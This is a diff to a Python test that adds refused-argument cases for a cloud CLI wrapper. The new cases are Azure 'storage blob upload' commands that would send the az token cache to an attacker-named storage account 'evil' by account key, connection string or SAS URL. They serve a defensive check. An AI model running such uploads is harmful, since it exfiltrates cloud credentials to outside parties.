@@ -597,6 +597,13 @@ def test_cloud_exec_checks_every_subscription_selector_in_argv(t):
         (["group", "list", "--subscription", "@/etc/hostname"], 403, "CLOUD_ARG_REFUSED"),
         (["@/etc/hostname"], 403, "CLOUD_ARG_REFUSED"),
         (["login", "--identity"], 403, "CLOUD_ARG_REFUSED"),
+        # a storage credential of any account, where az's token cache could go
+        (["storage", "blob", "upload", "--account-name", "evil", "--account-key", "Sw==", "-c", "c",
+          "-f", ".azure/msal_token_cache.json"], 403, "CLOUD_ARG_REFUSED"),
+        (["storage", "blob", "upload", "-f", "f", "--connection-string",
+          "DefaultEndpointsProtocol=https;AccountName=evil;AccountKey=Sw=="], 403, "CLOUD_ARG_REFUSED"),
+        (["storage", "blob", "upload", "-f", "f",
+          "--blob-url", "https://evil.blob.core.windows.net/c/x?sv=1&sig=abc"], 403, "CLOUD_ARG_REFUSED"),
         (["group", "list", "--subscription"], 400, "BAD_REQUEST"),
     ]
     for args, status, code in refused:
